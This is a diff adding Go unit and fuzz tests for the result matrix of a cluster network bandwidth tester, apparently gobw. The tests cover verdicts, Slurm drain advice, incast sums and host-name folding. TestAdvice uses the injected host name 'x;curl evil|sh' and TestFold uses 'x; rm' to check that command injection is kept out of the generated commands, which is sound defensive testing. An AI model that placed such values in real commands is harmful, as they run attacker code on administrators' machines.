@@ -1,0 +1,162 @@
+package matrix
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/gobw/gobw/internal/testrun"
+	"github.com/gobw/gobw/report/stats"
+)
+
+// sample is a run of three hosts of which one is slow and one never came.
+func sample() *Matrix {
+	m := &Matrix{
+		Pattern: "pairs", Planned: 1, Rounds: []Round{{Label: "pairs 1"}, {Label: "re-test", Retest: true}}, Rails: []string{"mlx5_0"}, Leaves: []string{"a", "b"},
+		Hosts: []Host{
+			{Rank: 0, Name: "node1", Leaf: "a", Verdict: stats.Verdict{Word: stats.Pass}},
+			{Rank: 2, Name: "node2", Leaf: "b", Verdict: stats.Verdict{Word: stats.Pass}},
+			{Rank: 1, Name: "node3", Verdict: stats.Failure(Absent, "look there", "did not come within 1m0s")},
+		},
+		Findings: []Finding{{Subject: Sender, From: 1, To: 1, Busy: stats.Summary{N: 3, Median: 0.5}, Verdict: stats.Failure(Slow, "see it alone", "one direction")}},
+		Judged:   Judged{Sigma: 0.01, Slow: 0.05, HostPower: 0.05, LinkPower: 0.05, Tested: 2, Pairs: 2, Retests: 1},
+	}
+	m.Cells.Add(0, 1, 0, 0, Measured, 1e11, 1)
+	m.Cells.Add(1, 0, 0, 0, Measured, 5e10, 0.5)
+	m.Cells.Add(1, 0, 1, 0, Missing, 0, 0)
+	return m
+}
+
+func TestVerdict(t *testing.T) {
+	good := func(m *Matrix) { m.Findings, m.Hosts = nil, m.Hosts[:2] }
+	for name, tt := range map[string]struct {
+		change func(*Matrix)
+		want   stats.Word
+		line   string
+	}{
+		"slow":    {func(*Matrix) {}, stats.Fail, "FAIL: 1 slow host, 1 absent host. 2 of 3 hosts, 1 rail, 1 round and 1 re-test."},
+		"missing": {func(m *Matrix) { m.Findings = nil }, stats.Fail, "1 absent host"},
+		"good":    {good, stats.Pass, "PASS: nothing bad found. 2 of 2 hosts"},
+		"cannot tell": {func(m *Matrix) {
+			good(m)
+			m.Findings = []Finding{{Subject: Link, To: 1, Verdict: stats.Unknown(stats.Unclear, "", "")}}
+		}, stats.CannotTell, "CANNOT TELL: 1 undecided link."},
+		"stopped":          {func(m *Matrix) { good(m); m.Planned = 9 }, stats.CannotTell, "stopped before round 2 of 9"},
+		"no power":         {func(m *Matrix) { good(m); m.Judged.HostPower = 0 }, stats.CannotTell, "CANNOT TELL"},
+		"nothing measured": {func(m *Matrix) { good(m); m.Cells = Cells{} }, stats.CannotTell, "CANNOT TELL"},
+	} {
+		m := sample()
+		tt.change(m)
+		if got := m.Verdict(); got != tt.want || !strings.Contains(m.Line(), tt.line) {
+			t.Errorf("%s: %s, want %s; %s", name, got, tt.want, m.Line())
+		}
+	}
+}
+
+// TestAdvice: nobody is told to drain a host on which a rank too many was refused, or hosts of a run that did not begin; and a name that
+// is none for a host does not come into a command.
+func TestAdvice(t *testing.T) {
+	advice := func(m *Matrix) string { return strings.Join(m.Advice("2026-01-02"), "\n") }
+	m := sample()
+	for _, want := range []string{"--exclude='node[2-3]'", "scontrol update nodename='node[2-3]' state=drain", "node2, sending: see it alone"} {
+		if got := advice(m); !strings.Contains(got, want) {
+			t.Errorf("%q is missing in:\n%s", want, got)
+		}
+	}
+	m.Findings, m.Hosts[2].Name = nil, m.Hosts[0].Name
+	if got := advice(m); strings.Contains(got, "exclude") {
+		t.Errorf("a rank too many: %s", got)
+	}
+	m = sample()
+	m.Rounds, m.Cells = nil, Cells{}
+	if got := advice(m); strings.Contains(got, "exclude") || !strings.Contains(m.Tested(), "No round was run") {
+		t.Errorf("%s\n%s", m.Tested(), got)
+	}
+	m = sample()
+	m.Hosts[2].Name = "x;curl evil|sh"
+	if got := advice(m); !strings.Contains(got, "--exclude=node2\n") || !strings.Contains(got, `names are none for a host: ["x;curl evil|sh"]`) {
+		t.Error(got)
+	}
+}
+
+// TestTestedSaysWhatWasJudged: a run says no power to find slow paths where it judged no speed.
+func TestTestedSaysWhatWasJudged(t *testing.T) {
+	for _, tt := range []struct {
+		untimed    int
+		want, lack string
+	}{
+		{0, "a host slower by", "Speeds are judged"},
+		{4, "Speeds are judged of 2 of them", "speeds are not"},
+		{6, "connections and data are judged here, speeds are not", "a host slower by"},
+	} {
+		m := &Matrix{Rounds: []Round{{}}, Judged: Judged{Sigma: 0.01, HostPower: 0.05, LinkPower: 0.05, Tested: 6, Pairs: 6, Untimed: tt.untimed}}
+		if got := m.Tested(); !strings.Contains(got, tt.want) || strings.Contains(got, tt.lack) {
+			t.Errorf("%d of 6 untimed: %s", tt.untimed, got)
+		}
+	}
+}
+
+// TestIncastSumsAReceiversFlows: and the knee is where it gets less.
+func TestIncastSumsAReceiversFlows(t *testing.T) {
+	m := &Matrix{Rails: []string{""}, Hosts: make([]Host, 4), Rounds: []Round{{FanIn: 1}, {FanIn: 3}}}
+	m.Cells.Add(0, 1, 0, 0, Measured, 100, 1)
+	for from, bits := range map[int]float64{0: 30, 2: 20, 3: 0} {
+		state := Measured
+		if bits == 0 {
+			state = Missing
+		}
+		m.Cells.Add(from, 1, 1, 0, state, bits, 1)
+	}
+	got := m.Incast()
+	want := []Incast{{FanIn: 1, Receivers: 1, Receiver: 100, Least: 100}, {FanIn: 3, Receivers: 1, Receiver: 50, Least: 20, Failed: 1}}
+	if len(got) != 2 || got[0] != want[0] || got[1] != want[1] || Knee(got) != 3 {
+		t.Errorf("got %+v, want %+v; knee %d", got, want, Knee(got))
+	}
+}
+
+func TestFold(t *testing.T) {
+	for hosts, want := range map[string]string{
+		"node3 node1 node2": "node[1-3]", "n08 n10 n09": "n[08-10]", "a b1 b3": "a,b[1,3]", "x; rm": "rm", "n1 n01": "n[1,01]", "n1 n1": "n1", "": "", "node[1]": "",
+	} {
+		if got := Fold(strings.Fields(hosts)); got != want {
+			t.Errorf("%s: %s, want %s", hosts, got, want)
+		}
+	}
+}
+
+func TestCheckRefuses(t *testing.T) {
+	if err := sample().Check(); err != nil {
+		t.Error(err)
+	}
+	for name, change := range map[string]func(*Matrix){
+		"short": func(m *Matrix) { m.Cells.To = nil }, "host": func(m *Matrix) { m.Cells.To[0] = 9 }, "itself": func(m *Matrix) { m.Cells.To[0] = 0 },
+		"round": func(m *Matrix) { m.Cells.Round[0] = -1 }, "rail": func(m *Matrix) { m.Cells.Rail[0] = 4 }, "state": func(m *Matrix) { m.Cells.State[0] = 7 },
+		"finding": func(m *Matrix) { m.Findings[0].Rail = 3 }, "its host": func(m *Matrix) { m.Findings[0].From = -1 }, "value": func(m *Matrix) { m.Cells.Value[0] = -1 },
+	} {
+		m := sample()
+		change(m)
+		if m.Check() == nil {
+			t.Errorf("%s: taken", name)
+		}
+	}
+}
+
+// FuzzCheck shows whatever the check lets through.
+func FuzzCheck(f *testing.F) {
+	b, err := json.Marshal(sample())
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Add(b)
+	testrun.Fuzz(f, func(_ *testing.T, b []byte) {
+		m := &Matrix{}
+		if json.Unmarshal(b, m) != nil || m.Check() != nil {
+			return
+		}
+		_, _, _, _ = m.Line(), m.Tested(), m.Advice(""), Knee(m.Incast())
+		_ = m.Spreads()
+		for _, f := range m.Findings {
+			_ = m.Where(f)
+		}
+	})
+}
